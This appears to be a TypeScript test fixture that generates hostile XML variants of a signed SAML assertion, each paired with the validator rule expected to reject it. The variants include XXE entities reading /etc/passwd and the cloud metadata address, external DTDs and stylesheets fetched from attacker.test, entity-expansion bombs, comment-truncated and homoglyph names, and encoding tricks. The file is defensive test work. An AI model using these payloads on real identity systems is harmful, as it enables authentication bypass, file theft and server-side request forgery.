import type { ForgedAssertion } from './forged-assertions.ts';
import { rules } from './hostile-response.ts';

/** A document with a signed assertion about agent1. */
interface Material {
  xml: string;
  /** The same with another name. */
  named(name: string): string;
}

const oneElement = 'document: expected one element';
const characters = 'characters: expected those of XML 1.0';
const expansion = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
const forged = (what: string, make: (of: Material) => string, rule: string | RegExp) => ({ what, make, rule });

const markups = [
  forged('a comment cuts the name', (of) => of.named('agent1<!-- -->.evil.test'), rules.markup),
  forged('a comment stands before the name', (of) => of.named('<!-- -->agent1'), rules.markup),
  forged('a comment stands in the signature', (of) => of.xml.replace('<DigestValue>', '<DigestValue><!-- -->'), rules.markup),
  forged('a comment stands between elements', (of) => of.xml.replace('<Subject>', '<!-- --><Subject>'), rules.markup),
  forged('a comment stands before the response', (of) => `<!-- -->${of.xml}`, rules.markup),
  forged('a comment follows the response', (of) => `${of.xml}<!-- -->`, rules.markup),
  forged('CDATA is the name', (of) => of.named('<![CDATA[agent1]]>'), rules.markup),
  forged('CDATA is a part of the name', (of) => of.named('agent<![CDATA[1]]>'), rules.markup),
  forged('an end of CDATA stands in the name', (of) => of.named('agent1]]>'), 'markup: expected no end of CDATA'),
  forged('a processing instruction cuts the name', (of) => of.named('agent1<?x?>.evil.test'), rules.instruction),
  forged('a style sheet is named', (of) => `<?xml-stylesheet href="https://attacker.test/x.xsl"?>${of.xml}`, rules.instruction),
  forged('there is a document type', (of) => `<!DOCTYPE Response>${of.xml}`, rules.markup),
  forged('there is a document type in small letters', (of) => `<!doctype Response>${of.xml}`, rules.markup),
  forged('the document type says what an id is', (of) => `<!DOCTYPE Response [<!ATTLIST Subject Id ID #IMPLIED>]>${of.xml}`, rules.markup),
  forged(
    'the document type has an attribute by default',
    (of) => `<!DOCTYPE Response [<!ATTLIST NameID Format CDATA "x">]>${of.xml}`,
    rules.markup,
  ),
  forged('an entity is the name', (of) => `<!DOCTYPE Response [<!ENTITY n "agent1">]>${of.named('&n;')}`, rules.markup),
  forged('entities of entities grow', (of) => `<!DOCTYPE r [<!ENTITY l0 "ha">${expansion}]>${of.named('&l9;')}`, rules.markup),
  forged(
    'one entity is used very often',
    (of) => `<!DOCTYPE r [<!ENTITY e "${'x'.repeat(10_000)}">]>${of.named('&e;'.repeat(10_000))}`,
    rules.markup,
  ),
  forged('an entity is a file', (of) => `<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>${of.named('&f;')}`, rules.markup),
  forged(
    'an entity is elsewhere',
    (of) => `<!DOCTYPE r [<!ENTITY f SYSTEM "http://169.254.169.254/latest">]>${of.named('&f;')}`,
    rules.markup,
  ),
  forged(
    'an entity of parameters is elsewhere',
    (of) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.test/x.dtd"> %p;]>${of.xml}`,
    rules.markup,
  ),
  forged('the document type is elsewhere', (of) => `<!DOCTYPE r SYSTEM "https://attacker.test/x.dtd">${of.xml}`, rules.markup),
  forged('an entity of HTML is in the name', (of) => of.named('&nbsp;agent1'), rules.entities),
  forged('an entity without an end is in the name', (of) => of.named('agent1&amp'), rules.entities),
  forged('an ampersand stands alone', (of) => of.named('agent1 & co'), rules.entities),
  forged('NUL is there by number', (of) => of.named('agent1&#0;'), rules.entities),
  forged('half a character is there by number', (of) => of.named('agent1&#xd800;'), rules.entities),
  forged('a number beyond Unicode is there', (of) => of.named('agent1&#xffffff;'), rules.entities),
  forged('a very long number is there', (of) => of.named(`agent1&#${'1'.repeat(50_000)};`), rules.entities),
  forged('NUL is in the name', (of) => of.named('agent1\0'), characters),
  forged('a control character is in the name', (of) => of.named('agent1\u0008'), characters),
  forged('no character is in the name', (of) => of.named('agent1\uffff'), characters),
  forged('the name is by numbers, and another', (of) => of.named('&#x61;dmin'), rules.otherAssertion),
  forged('a space follows the name', (of) => of.named('agent1 '), rules.otherAssertion),
  forged('a line ends in the name', (of) => of.named('agent1\n'), rules.otherAssertion),
  forged('a space that nobody sees follows the name', (of) => of.named('agent1\u200b'), rules.otherAssertion),
  forged('a letter that only looks the same is in the name', (of) => of.named('аgent1'), rules.otherAssertion),
  forged('the name is composed in another way', (of) => of.named('a\u0301gent1'), rules.otherAssertion),
  forged('an element is in the name', (of) => of.named('agent1<x/>'), rules.otherAssertion),
  forged('the name is empty', (of) => of.named(''), rules.otherAssertion),
  forged(
    'a prefix has no namespace',
    (of) => of.xml.replace('<NameID>', '<evil:NameID>').replace('</NameID>', '</evil:NameID>'),
    rules.malformed,
  ),
  forged(
    'a name has two colons',
    (of) => of.xml.replace('<NameID>', '<a:b:NameID>').replace('</NameID>', '</a:b:NameID>'),
    rules.malformed,
  ),
  forged('an attribute stands twice', (of) => of.xml.replace(' Version=', ' Version="2.0" Version='), rules.malformed),
  forged('an attribute has no quotes', (of) => of.xml.replace('Version="2.0"', 'Version=2.0'), rules.malformed),
  forged('an attribute has no value', (of) => of.xml.replace('Version="2.0"', 'Version="2.0" x'), rules.malformed),
  forged('an attribute has markup in it', (of) => of.xml.replace('Version="2.0"', 'Version="2.0" x="<y>"'), rules.malformed),
  forged('an end is missing', (of) => of.xml.replace('</Subject>', ''), rules.malformed),
  forged('an end is in other letters', (of) => of.xml.replace('</Subject>', '</subject>'), rules.malformed),
  forged('ends are crossed', (of) => of.xml.replace('</Conditions>', '</Subject>').replace('</Subject>', '</Conditions>'), rules.malformed),
  forged('it ends in the middle', (of) => of.xml.slice(0, of.xml.length / 2), oneElement),
  forged('it ends in the middle of a tag', (of) => `${of.xml.slice(0, of.xml.indexOf('</Assertion>'))}>`, rules.malformed),
  forged('its last character is missing', (of) => of.xml.slice(0, -1), oneElement),
  forged('text follows', (of) => `${of.xml}x`, oneElement),
  forged('text stands before it', (of) => `x${of.xml}`, oneElement),
  forged('a byte order mark stands before it', (of) => `\ufeff${of.xml}`, oneElement),
  forged('it is JSON', () => '{"Response":{}}', oneElement),
  forged('it is of version 1.1', (of) => `<?xml version="1.1"?>${of.xml}`, rules.instruction),
  forged('it says that it is UTF-7', (of) => `<?xml version="1.0" encoding="UTF-7"?>${of.xml}`, rules.instruction),
  forged('it says that it is UTF-16', (of) => `<?xml version="1.0" encoding="UTF-16"?>${of.xml}`, rules.instruction),
  forged('it says that it is Latin 1', (of) => `<?xml version="1.0" encoding="ISO-8859-1"?>${of.xml}`, rules.instruction),
  forged('it has two declarations', (of) => `<?xml version="1.0"?><?xml version="1.0"?>${of.xml}`, rules.instruction),
];

/** Markup that has ever made two readers disagree, in a document with a signed assertion about agent1. */
export function hostileMarkup(xml: string): ForgedAssertion[] {
  const named = (name: string) => xml.replace('>agent1<', `>${name}<`);
  return markups.map(({ what, make, rule }) => ({ what, xml: make({ xml, named }), rule }));
}
